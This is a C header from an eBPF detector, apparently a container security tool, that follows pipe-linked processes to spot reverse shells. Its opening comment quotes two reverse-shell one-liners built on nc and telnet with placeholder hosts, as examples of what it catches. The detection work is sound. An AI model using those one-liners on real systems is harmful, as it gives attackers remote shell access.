/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Chains of pipes that begin and end on the network with a shell between:
 * `sh -i <f 2>&1 | nc HOST PORT >f`, `telnet HOST 1 | sh | telnet HOST 2`. None of the processes
 * is tied to a connection by itself. Those that join two pipes are remembered at exec, those that
 * connect or listen with a pipe as input or output when they do; whoever comes last closes the chain.
 */
#pragma once

#include "descriptor.bpf.h"

#define CHAIN_HOPS 4

static __always_inline struct stage *stage_beside(const struct stage *at, bool up)
{
	u64 pipe = up ? at->in : at->out;
	u32 *found, pid;

	if (!pipe)
		return NULL;
	found = up ? bpf_map_lookup_elem(&pipe_writers, &pipe) : bpf_map_lookup_elem(&pipe_readers, &pipe);
	if (!found)
		return NULL;
	pid = *found;
	return bpf_map_lookup_elem(&stages, &pid);
}

/* The process on the network at one end of the chain, or NULL. *shell is set when one was passed. */
static __always_inline struct stage *chain_end(struct stage *from, bool up, bool *shell)
{
	struct stage *at = from, *next;

#pragma unroll
	for (int i = 0; i < CHAIN_HOPS; i++) {
		next = stage_beside(at, up);
		if (!next || next->container != from->container)
			return NULL;
		if (next->shell)
			*shell = true;
		if (next->direction)
			return next;
		at = next;
	}
	return NULL;
}

/* Whether this process closes a chain: the process that has the connection, or 0. Global: verified once. */
__weak __noinline int chain_closes(u32 pid)
{
	struct stage *at = bpf_map_lookup_elem(&stages, &pid), *up, *down;
	bool shell_up = false, shell_down = false;

	if (!at)
		return 0;
	up = chain_end(at, true, &shell_up);
	down = chain_end(at, false, &shell_down);
	if (at->direction)
		return (up && shell_up) || (down && shell_down) ? pid : 0;
	return up && down && (at->shell || shell_up || shell_down) ? down->pid : 0;
}

static __always_inline void stage_forget(u32 pid)
{
	struct stage *at = bpf_map_lookup_elem(&stages, &pid);
	u64 in, out;
	u32 *whose;

	if (!at)
		return;
	in = at->in;
	out = at->out;
	whose = bpf_map_lookup_elem(&pipe_readers, &in);
	if (whose && *whose == pid)
		bpf_map_delete_elem(&pipe_readers, &in);
	whose = bpf_map_lookup_elem(&pipe_writers, &out);
	if (whose && *whose == pid)
		bpf_map_delete_elem(&pipe_writers, &out);
	bpf_map_delete_elem(&stages, &pid);
}

static __always_inline void stage_put(const struct stage *stage)
{
	u64 in = stage->in, out = stage->out;
	u32 pid = stage->pid;
	long r = bpf_map_update_elem(&stages, &pid, stage, BPF_ANY);

	if (in && !r)
		r = bpf_map_update_elem(&pipe_readers, &in, &pid, BPF_ANY);
	if (out && !r)
		r = bpf_map_update_elem(&pipe_writers, &out, &pid, BPF_ANY);
	if (r)
		count(WIRE_DROPPED_STAGE);
}

/* The running process connects or listens: whether that closes a chain. Global: a stack of its own. */
__weak __noinline int chain_joins(u32 direction)
{
	struct task_struct *task = bpf_get_current_task_btf();
	struct wire_cgroup_entry *entry = task_container(task);
	struct stage stage = {.direction = direction}, *known;

	stage.in = task_pipe(task, 0);
	stage.out = task_pipe(task, 1);
	if (!entry || !(stage.in | stage.out))
		return 0;
	stage.container = entry->container;
	stage.pid = task->tgid;
	known = bpf_map_lookup_elem(&stages, &stage.pid);
	if (known)
		stage.shell = known->shell;
	stage_put(&stage);
	return chain_closes(stage.pid) != 0;
}
